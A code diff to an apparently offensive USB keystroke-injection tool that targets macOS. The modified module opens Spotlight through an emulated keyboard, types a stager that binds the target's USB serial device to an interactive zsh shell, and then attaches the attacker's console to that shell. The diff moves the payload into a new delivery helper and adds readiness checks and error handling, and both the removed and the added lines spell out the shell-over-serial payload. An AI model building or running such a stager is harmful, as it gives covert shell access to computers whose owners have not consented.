@@ -1,7 +1,9 @@
 import time
 
+from pirate.lib.delivery import Delivery, DeliveryError
 from pirate.lib.keyboard import Keyboard
 from pirate.lib.logger import Logger
+from pirate.lib.readiness import Readiness
 from pirate.lib.serial_console import SerialConsole
 
 
@@ -14,21 +16,20 @@ def execute(baud: int = 115200, show_diagnostics: bool = False) -> None:
     kb = Keyboard()
     rl = SerialConsole(on_ready=_on_ready)
 
-    Logger.info("Injecting serial stager on target...")
+    # Listen before typing so no early shell output is missed
+    rl.open(baud=baud)
+
     session_data = ""
     if show_diagnostics:
-        session_data = 'sleep 0.05; printf "[MAC stty] %s\\r\\n" "$(stty -f /dev/fd/3 -a)" >&3; printf "\\r\\n" >&3;'
-
-    payload = (
-        "{"
-        "p=$(ls /dev/tty.usb* 2>/dev/null|head -n1)||exit;"
-        "exec 3<>$p||exit;"
-        f"stty -f /dev/fd/3 {baud} raw -echo -ixon -ixoff||:;"
-        f"{session_data}"
-        '{ zsh -i <&3 >&3 2>&1; printf "__PIRATE_DONE__\\r\\n" >&3; };'
-        "exec 3>&- 3<&-"
-        "}; exit"
-    )
+        session_data = 'sleep 0.05; printf "[MAC stty] %s\\r\\n" "$(stty -f /dev/fd/3 -a)" >&3; printf "\\r\\n" >&3;\n'
+
+    # Typed as a short bootstrap; the session wrapper itself is pushed over serial
+    delivery = Delivery(kb, rl, platform="macos", baud=baud)
+    script = f'{session_data}{{ zsh -i <&3 >&3 2>&1; printf "__PIRATE_DONE__\\r\\n" >&3; }}\nexec 3>&- 3<&-\n'
+
+    # Wait for the host to enumerate the gadget before typing
+    if not Readiness.udc_configured(timeout=5.0, fallback=0.5):
+        Logger.warning("Host has not configured the USB gadget yet. Typing anyway...")
 
     # Launch spotlight
     kb.send("{KEY:GUI+SPACE}")
@@ -43,8 +44,15 @@ def execute(baud: int = 115200, show_diagnostics: bool = False) -> None:
     time.sleep(0.5)
 
     # Send the payload
-    kb.send(payload)
-    kb.send("{KEY:ENTER}")
+    Logger.info("Injecting serial stager on target...")
+    try:
+        delivery.deliver(script, suffix=";exit")
+    except DeliveryError as err:
+        Logger.error(f"Unable to deliver the serial stager: {err}")
+        rl.close()
+        return
+    finally:
+        kb.close()
 
     Logger.info("Attaching to serial...")
     rl.stdio(baud=baud)